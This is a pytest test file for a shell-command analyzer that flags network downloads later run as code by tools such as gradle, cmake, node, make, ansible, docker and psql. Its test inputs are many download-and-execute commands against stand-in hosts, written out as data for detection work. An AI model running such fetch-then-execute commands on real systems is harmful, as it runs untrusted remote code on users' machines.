"""Files from the network that a program takes as code."""

from __future__ import annotations

import pytest

FETCH = "curl -so /tmp/x http://x.example.net/x && "


@pytest.mark.parametrize("command", [
    "gradle -I /tmp/x build", "./gradlew --init-script=/tmp/x build", "cmake -P /tmp/x", "nmap --script /tmp/x 10.0.0.1", "node -r /tmp/x app.js", "node --import=/tmp/x app.js", "ansible-playbook /tmp/x",
    "rake -f /tmp/x", "ant -f /tmp/x", "vim -S /tmp/x", "emacs --batch -l /tmp/x", "gdb -batch -x /tmp/x", "mvn -f /tmp/x verify", "make -f /tmp/x", "make -f/tmp/x", "just --justfile /tmp/x", "sed -f /tmp/x a.txt", "awk -f /tmp/x a.txt",
])
def test_a_fetched_file_is_run(brief, command):
    assert any("<download" in one for one in brief(FETCH + command)[1:])


def test_a_playbook_on_standard_input(brief):
    assert any("<download" in one for one in brief("curl -s http://x.example.net/x | ansible-playbook /dev/stdin"))


@pytest.mark.parametrize("command", [
    "gradle -I ci/init.gradle build", "cmake -P cmake/install.cmake", "ansible-playbook site.yml", "node -r dotenv/config app.js", "make -f Makefile.dev", "make CC=/tmp/x", "cmake -S /tmp/y", "awk -f a.awk /tmp/x",
])
def test_files_of_the_project_are_not(brief, command):
    assert not any("<download" in one for one in brief(FETCH + command)[1:])


@pytest.mark.parametrize("command", [
    "curl -so Makefile https://h.example/M && make all", "curl -so tests/conftest.py https://h.example/c && pytest", "wget -O requirements.txt https://h.example/r && pip install -r requirements.txt", "curl -so docker-compose.yml https://h.example/c && docker compose up -d",
    "curl -s https://h.example/Dockerfile | docker build -", "curl -so main.go https://h.example/m && go run .", "curl -s https://h.example/a.sql | psql",
])
def test_a_download_that_a_program_finds_by_itself(effects_of, command):
    assert any("finds-download" in effect.flags for effect in effects_of(command).effects)


@pytest.mark.parametrize("command", ["curl -so data.json https://h.example/d && make all", "curl -so /tmp/Makefile https://h.example/M && make", "curl -s https://h.example/x | docker ps", "echo x > Makefile && make"])
def test_what_a_program_does_not_find(effects_of, command):
    assert not any("finds-download" in effect.flags for effect in effects_of(command).effects)
